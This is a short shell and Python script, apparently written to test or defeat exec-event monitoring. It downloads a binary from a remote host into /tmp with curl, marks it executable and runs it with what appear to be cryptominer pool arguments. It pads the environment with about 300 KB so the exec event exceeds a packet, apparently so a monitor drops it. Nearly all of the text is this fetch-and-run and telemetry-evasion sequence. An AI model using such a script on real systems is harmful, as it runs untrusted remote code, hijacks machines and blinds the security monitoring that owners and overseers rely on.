# 3 x 100 KB of environment make the event of the exec larger than a packet may be
#http 203.0.113.60:8010
#pool 198.51.100.96:443:drop
cd /tmp; curl -so s http://203.0.113.60:8010/w; chmod +x s
python3 - <<'P'
import subprocess,os
e=dict(os.environ); e.update({k:'x'*100000 for k in 'ABC'})
try: subprocess.run(['/tmp/s','-o','198.51.100.96:443','-u','x','-R','1'],env=e,stdout=subprocess.DEVNULL,timeout=9)
except subprocess.TimeoutExpired: pass
P
